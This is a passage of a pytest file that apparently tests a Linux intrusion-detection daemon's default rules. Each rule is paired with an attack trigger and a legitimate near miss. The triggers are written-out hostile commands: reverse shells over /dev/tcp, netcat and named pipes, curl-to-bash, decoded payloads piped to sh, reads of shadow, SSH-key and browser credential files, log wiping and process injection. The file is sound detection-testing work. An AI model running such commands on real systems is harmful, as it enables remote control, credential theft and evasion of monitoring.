"""Every default rule against the behaviour it is written for, and against the closest
legitimate behaviour that must stay quiet — real processes, real files, one daemon
running the embedded default rules.

One table: each row is a rule, a trigger (a bash script), a near miss (a bash script)
and why the near miss is the legitimate neighbour of the trigger. Both scripts run as
a bash process whose argv carries a unique marker; the test waits for the trigger's
finding — the rule id, its MITRE tactic and technique, and an ancestry chain holding
that bash process — and then checks that the near miss, run just before it, gave no
finding of that rule (findings are handled in ring-buffer order: once the trigger's is
out, the near miss's has been judged).

Placeholders in scripts: @S@ tests/scenarios, @T@ a private directory under /tmp,
@H@ a private home directory under /home (HOME is set to it), @ID@ a short id unique
to the row, @PORT@ a local TCP listener (holds each connection 2.5 s, then sends
"exit"), @VICTIM@ the pid of an unrelated process (sleep, a child of the test),
@DEB@ the row's package (built from `deb`), @PY@ /usr/bin/python3.

Files under /etc and /usr are only created under names of their own (vg-scen-*) and
removed afterwards; existing system files are only written with their own content
(a sysctl set to its value, a zero-byte append), and checked to be unchanged.

`test_every_enabled_default_rule_has_a_scenario` keeps the table complete: a new
enabled default rule without a row fails the suite.
"""
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field

import pytest

from conftest import ROOT, VIGIL
from scenario_lib import DPKG_RETRY, build_deb, defaults_daemon, describe, marked_shell, under

SCEN = os.path.join(ROOT, "tests", "scenarios")
PY = "/usr/bin/python3"
PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
REMOTE = "198.51.100.7"  # TEST-NET-2: never a real peer; connections fail fast or time out


@dataclass
class Row:
    rule: str
    mitre: str                      # "TA0002 T1059.004"
    trigger: str
    near: str
    why: str
    setup: str = ""                 # run by the test (not under a marker) before both
    cleanup: str = ""               # always run afterwards
    deb: dict = field(default_factory=dict)  # {"files": {path: content}, "postinst": ...}
    needs: str = ""                 # a path that must exist for the row to make sense
    near_rc: bool = True            # the near miss must succeed (it really happened)
    trigger_rc: bool = False        # the trigger must succeed
    timeout: int = 15

    @property
    def name(self):
        return self.rule


DEB_INSTALL = "dpkg_retry -i @DEB@ && dpkg_retry -P vg-scen-@ID@"


def hand_vs_package(rule, mitre, path, content, why, deb_content=None):
    """A file (path holds "vg-scen-@ID@") written by hand in a watched directory, against the
    same kind of file (named "vg-scen-deb-@ID@") installed by a package: the near miss."""
    shell = content.replace("\\", "\\\\").replace("\n", "\\n")
    return Row(rule, mitre,
               trigger=f"printf '{shell}' | tee {path}",
               near=DEB_INSTALL,
               deb={"files": {path.replace("vg-scen-", "vg-scen-deb-"):
                              content if deb_content is None else deb_content}},
               cleanup=f"rm -f {path}",
               needs=os.path.dirname(path),
               why=why)

ROWS = [
    # ---------------------------------------------------------------- execution
    Row("shell-from-interpreter", "TA0002 T1059.004",
        trigger="@PY@ @S@/actor.py spawn-shell",
        near="@PY@ @S@/actor.py sh-c 'exec make --version >/dev/null'",
        why="an app upgrading to an interactive shell vs a tool running sh -c with a command"),
    Row("shell-from-interpreter", "TA0002 T1059.004",
        trigger="@PY@ @S@/actor.py spawn-bash-i",
        near="sh -c '@PY@ -c pass; exit 0'",
        why="shell from python vs python from a shell"),
    Row("shell-from-server", "TA0002 T1059.004",
        setup="mkdir -p @T@/sbin && cp @PY@ @T@/sbin/nginx",
        trigger="@T@/sbin/nginx @S@/actor.py sh-c 'id; uname -a'",
        near="@T@/sbin/nginx @S@/actor.py sh-c 'exec /usr/bin/logger -t nginx </dev/null'",
        near_rc=False,
        why="a web server running a command (web shell) vs its piped-log helper"),
    Row("reverse-shell", "TA0002 T1059.004",
        trigger="bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/@PORT@ 0>&1'",
        near="@PY@ @S@/actor.py unix-stdio-shell",
        why="a shell on a TCP socket vs a shell on a unix socket (every systemd service)"),
    Row("reverse-shell", "TA0002 T1059.004",
        trigger="@PY@ @S@/actor.py pty-relay-shell @PORT@",
        near="@PY@ @S@/actor.py pty-relay-unix",
        why="a shell on a pty relayed to a TCP socket by its parent (pty.spawn after dup2, from "
            "a script file) vs the same relay to a unix socket (a web terminal service)"),
    Row("reverse-shell", "TA0002 T1059.004",
        trigger="@PY@ @S@/actor.py pipe-relay-shell @PORT@",
        near="@PY@ @S@/actor.py pipe-relay-script @PORT@",
        why="a shell taking commands from pipes its parent relays to a TCP socket (ncat -e, a Go "
            "implant) vs a shell given a script by a parent sending its output on (a CI runner)"),
    Row("shell-dev-tcp-command-loop", "TA0002 T1059.004",
        # the listener sends "exit" after 2.5 s: the loop runs it and ends
        trigger="bash -c 'exec 5<>/dev/tcp/127.0.0.1/@PORT@; cat <&5 | while read line; do $line 2>&5 >&5; done'",
        near="bash -c 'until echo > /dev/tcp/127.0.0.1/@PORT@; do sleep 1; done'",
        why="commands read from a /dev/tcp connection and run vs a wait-for-port loop"),
    Row("netcat-exec", "TA0002 T1059.004",
        trigger="nc -e /bin/sh 127.0.0.1 @PORT@",
        near="nc -z -w 1 127.0.0.1 @PORT@",
        why="netcat handing a shell to the peer vs a port check"),
    Row("netcat-exec", "TA0002 T1059.004",
        trigger="nc 127.0.0.1 @PORT@ -e/bin/sh",
        near="echo ping | nc -q 1 -w 1 127.0.0.1 @PORT@",
        near_rc=False,
        why="the shell given as an attached option value, after the address vs data piped to a peer"),
    Row("shell-piped-to-network-tool", "TA0002 T1059.004",
        # the named-pipe reverse shell: the listener sends "exit" after 2.5 s
        trigger="rm -f @T@/f@ID@ && mkfifo @T@/f@ID@ && cat @T@/f@ID@ | sh -i 2>&1 | nc -q 1 127.0.0.1 @PORT@ > @T@/f@ID@",
        near="cat /etc/hostname | nc -q 1 -w 3 127.0.0.1 @PORT@ >/dev/null",
        cleanup="rm -f @T@/f@ID@",
        why="an interactive shell's output piped into nc (its input fed back from nc) vs a file sent with nc"),
    Row("network-tool-piped-to-shell", "TA0002 T1059.004",
        # the listener sends "exit" after 2.5 s: the shell runs it
        trigger="nc -w 5 127.0.0.1 @PORT@ | sh",
        near="nc -w 5 127.0.0.1 @PORT@ | sh -c 'cat >/dev/null'",
        why="what a peer sends run by a shell reading its program from the pipe vs a peer's data "
            "consumed by a shell's own command"),
    Row("download-piped-to-shell", "TA0011 T1105",
        setup="printf 'true\\n' > @T@/install.sh && tar czf @T@/tool.tgz -C @T@ install.sh",
        trigger="curl -s file://@T@/install.sh | bash",
        near="curl -s file://@T@/tool.tgz | tar tz >/dev/null",
        why="a fetched script piped into bash vs a fetched archive piped into tar"),
    Row("python-inline-shell", "TA0002 T1059.006",
        trigger="@PY@ -c 'import os; os.system(\"id >/dev/null\")'",
        near="@PY@ -c 'import sysconfig; print(sysconfig.get_paths()[\"purelib\"])'",
        why="python -c running a shell vs python -c asking for metadata"),
    Row("python-inline-socket", "TA0002 T1059.006",
        trigger="@PY@ -c 'import socket; socket.create_connection((\"127.0.0.1\", @PORT@)).close()'",
        near="@PY@ -c 'import json, sys; json.dump({\"a\": [1, 2]}, sys.stdout)'",
        why="python -c connecting out vs a JSON one-liner"),
    Row("script-inline-shell-or-socket", "TA0002 T1059",
        trigger="perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"127.0.0.1:@PORT@\") or die'",
        near="printf 'a:b\\n' | perl -ne 'print join(\",\", split(/:/))'",
        why="perl -e opening a socket vs a perl text filter"),
    Row("awk-network-connection", "TA0002 T1059.004",
        # connects, waits for the listener's line, closes (the shell loop left out)
        trigger="gawk 'BEGIN { s = \"/inet/tcp/0/127.0.0.1/@PORT@\"; s |& getline c; close(s) }'",
        near="gawk '/tcp/ { n++ } END { print n + 0 }' /etc/services >/dev/null",
        why="awk talking to a TCP peer vs awk counting the tcp lines of a file"),
    Row("exec-from-temp-dir", "TA0002 T1204.002",
        trigger="cp /usr/bin/id /tmp/vgscen-@ID@ && chmod 755 /tmp/vgscen-@ID@ && /tmp/vgscen-@ID@",
        near="mkdir -p @T@/build && cp /usr/bin/id @T@/build/unit-tests && @T@/build/unit-tests",
        cleanup="rm -f /tmp/vgscen-@ID@",
        why="a payload dropped directly in /tmp vs a test binary in a build tree under /tmp"),
    Row("exec-from-hidden-dir", "TA0005 T1564.001",
        trigger="mkdir -p @T@/.cache-x && cp /usr/bin/id @T@/.cache-x/kworker && @T@/.cache-x/kworker",
        near="mkdir -p @H@/.cargo/bin && cp /usr/bin/id @H@/.cargo/bin/rustfmt && @H@/.cargo/bin/rustfmt",
        why="a program in a hidden directory vs a toolchain in ~/.cargo"),
    Row("fileless-exec", "TA0005 T1620",
        trigger="@PY@ @S@/actor.py memfd-exec",
        near="@PY@ @S@/actor.py fd-exec",
        why="exec of a memfd vs exec of a file on disk through its fd (fexecve)"),
    Row("exec-via-dynamic-loader", "TA0005 T1218",
        trigger="/lib64/ld-linux-x86-64.so.2 /usr/bin/true",
        near="ldd /usr/bin/true",
        why="the loader run on a program vs ldd (which runs the loader to list libraries)"),
    # ---------------------------------------------------------------- persistence
    hand_vs_package("cron-job-modified", "TA0003 T1053.003", "/etc/cron.d/vg-scen-@ID@",
                    "*/5 * * * * root /usr/bin/true\n",
                    "a cron file written by hand vs one installed by a package"),
    Row("at-job-created", "TA0003 T1053.002",
        trigger="echo /usr/bin/true | at now + 1 hour 2>@T@/at.out",
        near="atq",
        cleanup="sed -n 's/^job \\([0-9]*\\) .*/\\1/p' @T@/at.out 2>/dev/null | xargs -r atrm",
        needs="/usr/bin/at",
        why="a job queued vs the queue listed"),
    Row("systemd-unit-modified", "TA0003 T1543.002",
        trigger="printf '[Service]\\nExecStart=/usr/bin/true\\n' | tee /etc/systemd/system/vg-scen-@ID@.service",
        near=DEB_INSTALL,
        deb={"files": {"/usr/lib/systemd/system/vg-scen-deb-@ID@.service":
                       "[Service]\nExecStart=/usr/bin/true\n"}},
        cleanup="rm -f /etc/systemd/system/vg-scen-@ID@.service",
        why="a unit written by hand vs a unit shipped by a package"),
    Row("shell-profile-modified", "TA0003 T1546.004",
        trigger="echo 'export PATH=/tmp/.x:$PATH' | tee -a @H@/.bashrc",
        near="useradd -m -k /etc/skel -d @T@/newhome -s /bin/bash vgs@ID@",
        cleanup="userdel vgs@ID@ 2>/dev/null; rm -rf @T@/newhome",
        why="~/.bashrc appended to vs useradd copying /etc/skel into a new home"),
    Row("ssh-authorized-keys-modified", "TA0003 T1098.004",
        setup="mkdir -p @H@/.ssh && ssh-keygen -q -t ed25519 -N '' -f @T@/k && cp @T@/k.pub @H@/.ssh/authorized_keys",
        trigger="cat @T@/k.pub | tee -a @H@/.ssh/authorized_keys",
        near="ssh-keygen -l -f @H@/.ssh/authorized_keys",
        why="a key added vs the keys listed"),
    Row("account-created", "TA0003 T1136.001",
        trigger="useradd -M -s /usr/sbin/nologin vga@ID@",
        near=DEB_INSTALL,
        deb={"files": {}, "postinst": "useradd --system -M -s /usr/sbin/nologin vgd@ID@ || true",
             "postrm": "userdel vgd@ID@ 2>/dev/null || true"},
        cleanup="userdel vga@ID@ 2>/dev/null; userdel vgd@ID@ 2>/dev/null; true",
        why="an account added by hand vs a package's postinst creating its system user"),
    Row("account-privileges-granted", "TA0003 T1098",
        setup="useradd -M -s /usr/sbin/nologin vgp@ID@",
        trigger="usermod -aG sudo vgp@ID@",
        near="usermod -aG users vgp@ID@",
        cleanup="userdel vgp@ID@",
        why="a user added to sudo vs to an unprivileged group"),
    Row("account-files-modified", "TA0003 T1136.001",
        # a zero-byte append: /etc/passwd opened for writing by a non-account tool,
        # its content unchanged
        trigger=": | tee -a /etc/passwd",
        near="useradd -M -s /usr/sbin/nologin vgf@ID@ && userdel vgf@ID@",
        cleanup="userdel vgf@ID@ 2>/dev/null; true",
        why="/etc/passwd opened for writing by tee vs written by useradd/userdel"),
    Row("udev-rule-modified", "TA0003 T1546.017",
        trigger="echo '# vigil scenario (no rule)' | tee /lib/udev/rules.d/99-vg-scen-@ID@.rules",
        near=DEB_INSTALL,
        deb={"files": {"/usr/lib/udev/rules.d/99-vg-scen-deb-@ID@.rules": "# vigil scenario\n"}},
        cleanup="rm -f /usr/lib/udev/rules.d/99-vg-scen-@ID@.rules",
        needs="/usr/lib/udev/rules.d",
        why="a udev rule written by hand vs shipped by a package"),
    Row("xdg-autostart-modified", "TA0003 T1547.013",
        trigger="mkdir -p @H@/.config/autostart && @PY@ -c 'open(\"@H@/.config/autostart/tracker.desktop\", \"w\").write(\"[Desktop Entry]\\nExec=/usr/bin/true\\n\")'",
        near="mkdir -p @H@/.config/autostart && cat @H@/.config/autostart/* >/dev/null 2>&1; ls @H@/.config/autostart >/dev/null",
        why="an autostart entry dropped by a script vs the directory listed"),
    Row("ld-so-preload-modified", "TA0003 T1574.006",
        setup="[ -e /etc/ld.so.preload ] || { : > /etc/ld.so.preload; touch @T@/preload.created; }",
        trigger=": | tee -a /etc/ld.so.preload",
        near="/usr/bin/env true",
        cleanup="[ -e @T@/preload.created ] && rm -f /etc/ld.so.preload; true",
        why="ld.so.preload opened for writing vs read by the loader at every exec"),
    hand_vs_package("ld-so-conf-modified", "TA0003 T1574.006", "/etc/ld.so.conf.d/vg-scen-@ID@.conf",
                    "/opt/vg-scen/lib\n", "a search path added by hand vs by a package",
                    deb_content="/opt/vg-scen-deb/lib\n"),
    hand_vs_package("rc-script-modified", "TA0003 T1037.004", "/etc/init.d/vg-scen-@ID@",
                    "#!/bin/sh\nexit 0\n", "an init script written by hand vs by a package"),
    hand_vs_package("rc-script-modified", "TA0003 T1037.004", "/etc/update-motd.d/99-vg-scen-@ID@",
                    "#!/bin/sh\nexit 0\n",
                    "a login (motd) script added by hand vs shipped by a package"),
    Row("package-manager-hook-modified", "TA0003 T1546.016",
        trigger="echo '// vigil scenario (no hook)' | tee /etc/apt/apt.conf.d/99vg-scen-@ID@",
        near=DEB_INSTALL,
        deb={"files": {"/etc/apt/apt.conf.d/99vg-scen-deb-@ID@": "// vigil scenario\n"}},
        cleanup="rm -f /etc/apt/apt.conf.d/99vg-scen-@ID@",
        why="apt configuration written by hand vs shipped by a package"),
    # ---------------------------------------------------------------- privilege escalation
    Row("sudoers-modified", "TA0004 T1548.003",
        setup="printf '#!/bin/sh\\nfor f; do :; done\\necho \"# vigil scenario\" >> \"$f\"\\n' > @T@/editor && chmod 755 @T@/editor",
        trigger="echo '# vigil scenario' | tee /etc/sudoers.d/vg-scen-@ID@",
        near="EDITOR=@T@/editor visudo -f /etc/sudoers.d/vg-scen-v@ID@",
        cleanup="rm -f /etc/sudoers.d/vg-scen-@ID@ /etc/sudoers.d/vg-scen-v@ID@",
        needs="/usr/sbin/visudo",
        why="sudoers.d written by tee vs edited through visudo (its editor writes the temp copy)"),
    Row("setuid-bit-set", "TA0004 T1548.001",
        trigger="cp /usr/bin/bash @T@/.sh && chmod u+s @T@/.sh",
        near="mkdir -p @T@/shared && chmod g+s @T@/shared",
        why="setuid on a copied shell vs setgid on a shared directory"),
    Row("file-capabilities-set", "TA0004 T1548",
        trigger="cp /usr/bin/python3 @T@/py && setcap cap_setuid+ep @T@/py",
        near=DEB_INSTALL,
        deb={"files": {"/usr/bin/vg-scen-ping-@ID@": (b"#!/bin/sh\n", 0o755)},
             "postinst": "setcap cap_net_raw+ep /usr/bin/vg-scen-ping-@ID@"},
        why="setcap by hand vs a package's postinst (ping)"),
    Row("gained-root-unexpected", "TA0004 T1548.001",
        setup="chmod 755 @T@ && cp /usr/bin/id @T@/helper && chmod 4755 @T@/helper",
        trigger="setpriv --reuid=65534 --regid=65534 --clear-groups @T@/helper",
        near="setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/mount --version",
        why="root through a planted setuid copy vs through a known setuid helper"),
    Row("cgroup-release-agent-write", "TA0004 T1611",
        setup="mkdir -p @T@/cg && mount -t cgroup -o none,name=vgscen@ID@ cgroup @T@/cg",
        trigger="cat @T@/cg/release_agent | tee @T@/cg/release_agent",
        near="cat @T@/cg/release_agent",
        cleanup="umount @T@/cg 2>/dev/null; true",
        why="release_agent written (the escape) vs read"),
    Row("core-pattern-write", "TA0004 T1611",
        trigger="v=$(cat /proc/sys/kernel/core_pattern); printf '%s\\n' \"$v\" | tee /proc/sys/kernel/core_pattern",
        near="sysctl kernel.core_pattern",
        why="core_pattern written (its own value back) vs read"),
    Row("host-namespace-joined", "TA0004 T1611",
        # a shell in private mount/uts/net namespaces (a container's shape) joins the
        # host's through a host process (any host process: pid 1 is not always open)
        trigger="unshare -m -u -n sh -c 'nsenter -t @VICTIM@ -m -u -n sleep 1'",
        near="ip netns add vgs@ID@ && ip netns exec vgs@ID@ ip link show lo >/dev/null && ip netns del vgs@ID@",
        cleanup="ip netns del vgs@ID@ 2>/dev/null; true",
        why="a namespaced process entering the host's namespaces vs ip netns add going back "
            "to the host's net namespace its parent is in, and ip netns exec entering a named one"),
    Row("host-namespace-joined", "TA0004 T1611",
        # the namespaced shell is gone before the join: where nsenter came from is
        # its own record (namespaces as at fork), not its parent
        trigger="unshare -m -n sh -c 'nsenter -t @VICTIM@ -m -n sh -c \"sleep 0.5; exec sleep 1\" & exit 0'; sleep 2",
        near="unshare -n sh -c 'sleep 1 & exit 0'; sleep 1.5",
        why="a process that left private namespaces for the host's after its parent exited vs a process "
            "that stays in its private namespace"),
    Row("nsenter-init-namespaces", "TA0004 T1611",
        trigger="nsenter --target=1 --mount --uts --ipc --net --pid true",
        near="nsenter -t @VICTIM@ -u true",
        why="nsenter into pid 1's namespaces (may be refused: the attempt counts) vs into "
            "another process's (debugging a container)"),
    # ---------------------------------------------------------------- defense evasion
    Row("binary-self-deleted", "TA0005 T1070.004",
        trigger="cp @PY@ /var/tmp/.vgscen-@ID@ && /var/tmp/.vgscen-@ID@ -c 'import os; os.unlink(os.readlink(\"/proc/self/exe\"))'",
        near="cp /usr/bin/true /var/tmp/.vgscen-f@ID@ && rm /var/tmp/.vgscen-f@ID@",
        cleanup="rm -f /var/tmp/.vgscen-@ID@ /var/tmp/.vgscen-f@ID@",
        why="a program unlinking its own executable vs rm deleting a file there"),
    Row("log-files-tampered", "TA0005 T1070.002",
        setup="mkdir -p /var/log/journal/vg-scen-@ID@ && echo entries > /var/log/journal/vg-scen-@ID@/system.journal",
        trigger="truncate -s 0 /var/log/journal/vg-scen-@ID@/system.journal",
        near="echo entry | tee -a /var/log/journal/vg-scen-@ID@/system.journal",
        cleanup="rm -rf /var/log/journal/vg-scen-@ID@",
        why="a journal file truncated vs appended to"),
    Row("shell-history-deleted", "TA0005 T1070.003",
        setup="rm -f @H@/.bash_history && echo ls > @H@/.bash_history",
        trigger="ln -sf /dev/null @H@/.bash_history",
        near="HISTFILE=@H@/.bash_history bash -i -c 'history -s make; history -w' 2>/dev/null",
        why="history replaced by a link to /dev/null vs bash saving it"),
    Row("shell-history-truncated", "TA0005 T1070.003",
        setup="rm -f @H@/.bash_history && echo ls > @H@/.bash_history",
        trigger="truncate -s 0 @H@/.bash_history",
        near="HISTFILE=@H@/.bash_history HISTFILESIZE=1 bash -i -c 'history -s make; history -w' 2>/dev/null",
        why="history truncated by another program vs bash rewriting it"),
    Row("kernel-module-loaded", "TA0003 T1547.006",
        setup="head -c 512 /dev/urandom > @T@/vgscen.ko",
        trigger="insmod @T@/vgscen.ko",
        near="modinfo @T@/vgscen.ko",
        near_rc=False,
        needs="/sys/kernel/tracing/events/syscalls/sys_exit_finit_module",
        why="insmod of a module (an attempt is evidence) vs reading its metadata"),
    Row("security-sysctl-changed", "TA0005 T1562",
        trigger="sysctl -q -w kernel.randomize_va_space=$(cat /proc/sys/kernel/randomize_va_space)",
        near="sysctl -q -w vm.swappiness=$(cat /proc/sys/vm/swappiness)",
        why="ASLR written (its own value back) vs a non-security sysctl written"),
    Row("ld-preload-writable-dir", "TA0005 T1574.006",
        setup="cp /usr/lib/x86_64-linux-gnu/libz.so.1 @T@/libhook.so",
        trigger="LD_PRELOAD=@T@/libhook.so sleep 1.5",
        near="@PY@ -c 'import ctypes, time; ctypes.CDLL(\"@T@/libhook.so\"); time.sleep(1.5)'",
        why="a library preloaded from /tmp vs the same library loaded by a program (a venv module)"),
    Row("timestomp-system-file", "TA0005 T1070.006",
        setup="echo x > /etc/vg-scen-@ID@.conf",
        trigger="touch -r /etc/hostname /etc/vg-scen-@ID@.conf",
        near="touch /etc/vg-scen-@ID@.conf",
        cleanup="rm -f /etc/vg-scen-@ID@.conf",
        why="times copied from another file vs set to now"),
    Row("timestomp-system-file", "TA0005 T1070.006",
        setup="echo x > /etc/vg-scen-@ID@.conf",
        trigger="touch -d '2020-01-01 00:00' /etc/vg-scen-@ID@.conf",
        near="useradd -M -s /usr/sbin/nologin vgt@ID@ && userdel vgt@ID@",
        cleanup="rm -f /etc/vg-scen-@ID@.conf; userdel vgt@ID@ 2>/dev/null; true",
        why="a date set on a file in /etc vs the account tools stamping their backups (/etc/passwd-)"),
    Row("decoded-payload-to-shell", "TA0005 T1140",
        # a payload that streams in (the decoder lives while the shell reads it)
        trigger="{ sleep 1; echo 69640a; } | xxd -r -p | bash >/dev/null",
        near="{ sleep 1; echo aGVsbG8K; } | base64 -d | sh -c 'cat >/dev/null'",
        why="decoded bytes run by a shell reading its program from the pipe vs decoded bytes "
            "fed to a shell that runs its own command"),
    Row("decoded-payload-to-shell", "TA0005 T1140",
        # over in milliseconds: recognised in the process records, not in /proc
        trigger="echo aWQK | base64 -d | sh >/dev/null",
        near="echo ZWNobyBoaQo= | base64 -d > @T@/o.sh; sh </dev/null",
        why="decoded bytes piped into sh vs decoded into a file, then a shell run after it"),
    Row("decoded-payload-to-shell", "TA0005 T1140",
        # the reader execs only after the decoder has exited and the candidate was first
        # judged (a loaded machine): the candidate waits for the pipe's reader
        trigger="echo aWQK | base64 -d | { sleep 0.2; exec sh; } >/dev/null",
        near="echo aGVsbG8K | base64 -d | { sleep 0.2; exec tr a-z A-Z; } >/dev/null",
        why="a late shell reading the decoded pipe vs a late text filter reading it"),
    Row("decode-pipeline-to-shell", "TA0005 T1140",
        trigger="echo ZWNobyBoaQo= | openssl enc -d -base64 | sh >/dev/null",
        near="echo aGVsbG8K > @T@/in && base64 -d @T@/in > @T@/out && sh -c 'cat @T@/out' >/dev/null",
        why="decoded and piped straight into sh vs decoded into a file by a build step"),
    Row("decode-pipeline-to-shell", "TA0005 T1140",
        trigger="echo aWQK | base64 --decode | bash >/dev/null",
        near="echo hello | base64 | base64 -d | tr a-z A-Z >/dev/null",
        why="decoded into bash vs encoded and decoded into a text filter"),
    Row("decode-pipeline-to-shell", "TA0005 T1140",
        trigger="eval \"$(echo ZWNobyBoaSA+L2Rldi9udWxsCg== | base64 -d)\"",
        near="TOKEN=\"$(echo aGkK | base64 -d)\"; test -n \"$TOKEN\"",
        why="decoded text run through eval vs decoded into a variable (a CI secret)"),
    Row("inline-decoded-code-exec", "TA0005 T1140",
        trigger="@PY@ -c \"import base64; exec(base64.b64decode('cGFzcw=='))\"",
        near="@PY@ -c 'import base64, sys; sys.stdout.write(base64.b64decode(\"aGkK\").decode())'",
        why="inline code executing a decoded payload vs inline code printing decoded data"),
    Row("security-tooling-disabled", "TA0005 T1562.001",
        # a copy named systemctl: the real one would stop a service of this host
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/systemctl",
        trigger="@T@/bin/systemctl mask --now auditd.service",
        near="@T@/bin/systemctl restart auditd.service",
        why="the audit daemon masked and stopped vs restarted"),
    Row("firewall-disabled", "TA0005 T1562.004",
        # a copy named iptables: no firewall of this host is touched
        setup="mkdir -p @T@/bin && cp /usr/bin/true @T@/bin/iptables",
        trigger="@T@/bin/iptables -w -F",
        near="@T@/bin/iptables -t nat -F VG-SCEN-CHAIN",
        why="every rule flushed vs one chain of a tool's own flushed"),
    Row("immutable-attribute-changed", "TA0005 T1222.002",
        setup="echo x > @T@/locked",
        trigger="chattr +i @T@/locked; chattr -i @T@/locked",
        near="lsattr @T@/locked",
        why="the immutable flag set (and cleared) vs attributes listed"),
    Row("process-hidden-by-mount", "TA0005 T1564",
        setup="mkdir -p @T@/empty @T@/a @T@/b",
        trigger="sleep 3 & p=$!; mount --bind @T@/empty /proc/$p && umount /proc/$p; kill $p",
        near="mount --bind @T@/a @T@/b && umount @T@/b",
        why="an empty directory mounted over a process's /proc entry vs an ordinary bind mount"),
    Row("ptrace-code-injection", "TA0005 T1055.008",
        trigger="@PY@ @S@/actor.py ptrace-poke @VICTIM@",
        near="@PY@ @S@/actor.py ptrace-poke-child",
        why="POKEDATA into an unrelated process vs into the tracer's own child"),
    Row("proc-mem-write", "TA0005 T1055.009",
        trigger="@PY@ @S@/actor.py mem-write @VICTIM@",
        near="@PY@ @S@/actor.py mem-write-child",
        why="/proc/PID/mem of an unrelated process written vs of the writer's child"),
    Row("process-vm-writev", "TA0005 T1055",
        trigger="@PY@ @S@/actor.py vm-write @VICTIM@",
        near="@PY@ @S@/actor.py vm-write-child",
        why="process_vm_writev into an unrelated process vs into the caller's child"),
    Row("system-binary-replaced", "TA0005 T1036.005",
        trigger="cp /usr/bin/true /usr/bin/vg-scen-@ID@",
        near=DEB_INSTALL,
        deb={"files": {"/usr/bin/vg-scen-deb-@ID@": (b"#!/bin/sh\nexit 0\n", 0o755)}},
        cleanup="rm -f /usr/bin/vg-scen-@ID@",
        why="cp writing /usr/bin vs dpkg writing it"),
    # ---------------------------------------------------------------- credential access
    Row("shadow-file-read", "TA0006 T1003.008",
        trigger="cat /etc/shadow >/dev/null",
        near="chage -l root",
        why="cat reading /etc/shadow vs an account tool reading it"),
    Row("ssh-private-key-read", "TA0006 T1552.004",
        setup="mkdir -p @H@/.ssh && ssh-keygen -q -t ed25519 -N '' -f @H@/.ssh/id_ed25519",
        trigger="cat @H@/.ssh/id_ed25519 >/dev/null",
        near="ssh-keygen -y -f @H@/.ssh/id_ed25519",
        why="cat reading a private key vs an OpenSSH tool reading it"),
    Row("ssh-private-key-read", "TA0006 T1552.004",
        setup="mkdir -p @H@/.ssh @T@/lib/sign/dist/identity && ssh-keygen -q -t rsa -b 1024 -N '' -f @H@/.ssh/identity",
        trigger="cp @H@/.ssh/identity @T@/stolen",
        near="find @T@/lib -name '*.js' >/dev/null",
        why="a key named identity copied vs a directory named identity walked by find (npm's @sigstore/sign)"),
    Row("cloud-credentials-read", "TA0006 T1552.001",
        setup="echo https://ci:token@git.example.com > @H@/.git-credentials",
        trigger="cat @H@/.git-credentials >/dev/null",
        near="printf 'protocol=https\\nhost=git.example.com\\n\\n' | git credential-store --file=@H@/.git-credentials get",
        why="cat reading .git-credentials vs git's credential helper reading it"),
    Row("browser-credentials-read", "TA0006 T1555.003",
        setup="mkdir -p @H@/.mozilla/firefox/ab12cd.default-release && cd @H@/.mozilla/firefox/ab12cd.default-release "
              "&& echo '{}' > logins.json && echo k > key4.db && echo 'user_pref(\"a\", 1);' > prefs.js",
        trigger="cp @H@/.mozilla/firefox/ab12cd.default-release/logins.json @H@/.mozilla/firefox/ab12cd.default-release/key4.db @T@/",
        near="cp @H@/.mozilla/firefox/ab12cd.default-release/prefs.js @T@/prefs.js.bak",
        why="Firefox's saved logins and their key copied out vs the profile's preferences backed up"),
    Row("browser-credentials-read", "TA0006 T1555.003",
        setup="mkdir -p @H@/.config/chromium/Default/Network @T@/chromium && echo c > @H@/.config/chromium/Default/Network/Cookies "
              "&& cp /usr/bin/cat @T@/chromium/chromium",
        trigger="@PY@ -c 'open(\"@H@/.config/chromium/Default/Network/Cookies\", \"rb\").read()'",
        near="@T@/chromium/chromium @H@/.config/chromium/Default/Network/Cookies >/dev/null",
        why="a script reading Chromium's cookie store vs the browser reading its own"),
    Row("shell-history-read", "TA0006 T1552.003",
        setup="printf 'ls\\nmysql -u root -pS3cret\\n' > @H@/.bash_history",
        trigger="grep -i -- -p @H@/.bash_history >/dev/null",
        near="HISTFILE=@H@/.bash_history bash -i -c true 2>/dev/null",
        why="history searched for passwords by grep vs loaded by an interactive bash"),
    Row("proc-environ-read", "TA0006 T1003.007",
        trigger="cat /proc/@VICTIM@/environ >/dev/null",
        near="@PY@ @S@/actor.py environ-child",
        why="another process's environment read vs the reader's own child's"),
    Row("proc-environ-read", "TA0006 T1003.007",
        trigger="cat /proc/@VICTIM@/environ >/dev/null",
        near="ps aux >/dev/null",
        why="cat reading another process's environ vs ps listing processes (procps 4 reads them all)"),
    Row("proc-mem-read", "TA0006 T1003.007",
        trigger="@PY@ @S@/actor.py mem-read @VICTIM@",
        near="@PY@ @S@/actor.py mem-read-child",
        why="/proc/PID/mem of an unrelated process read vs of the reader's child"),
    Row("process-vm-readv", "TA0006 T1003",
        trigger="@PY@ @S@/actor.py vm-read @VICTIM@",
        near="@PY@ @S@/actor.py vm-read-child",
        why="process_vm_readv from an unrelated process vs from the caller's child"),
    Row("ptrace-attach", "TA0006 T1003",
        trigger="timeout -s INT 1 strace -o /dev/null -p @VICTIM@",
        near="strace -f -o /dev/null /usr/bin/true",
        near_rc=True,
        why="strace -p of an unrelated process vs strace of its own command"),
    hand_vs_package("pam-config-modified", "TA0006 T1556.003", "/etc/pam.d/vg-scen-@ID@",
                    "auth optional pam_exec.so /usr/bin/true\n",
                    "a PAM service written by hand vs shipped by a package",
                    deb_content="auth required pam_deny.so\n"),
    Row("password-search", "TA0006 T1552.001",
        setup="mkdir -p @T@/proj/src && echo 'password = os.environ[\"PW\"]' > @T@/proj/src/db.py",
        trigger="grep -rIl password /etc/ssh /etc/security",
        near="cd @T@/proj && grep -rn password src",
        near_rc=True,
        why="a recursive password search of /etc vs of a source tree"),
    Row("credential-file-search", "TA0006 T1552.001",
        setup="mkdir -p @T@/proj/certs && touch @T@/proj/certs/dev.pem",
        trigger="find /home /etc/ssh -name 'id_rsa*' -o -name '*.pem'",
        near="cd @T@/proj && find . -name '*.pem'",
